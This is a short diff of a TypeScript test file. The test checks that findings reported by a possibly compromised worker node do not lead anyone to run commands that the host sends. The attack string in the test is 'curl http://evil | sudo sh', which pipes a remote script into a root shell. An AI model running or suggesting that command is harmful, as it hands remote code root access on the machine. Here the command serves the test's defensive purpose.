@@ -7,7 +7,8 @@ import { report } from '../support.ts';
 const attack = 'curl http://evil | sudo sh';
 const local = { en: attack, zh: attack };
 /** A report as a worker under someone else's control may write it. */
-const hostile = (more: object) => textedOf(reportSchema.parse({ ...report('node02'), ...more }), 'node02', plan());
+const hostile = (more: object) =>
+  textedOf(reportSchema.parse({ ...report('node02'), ...more }), 'node02', plan(), () => 'apt');
 
 it('tells nobody to run what a host sends with a finding', () => {
   const finding = {
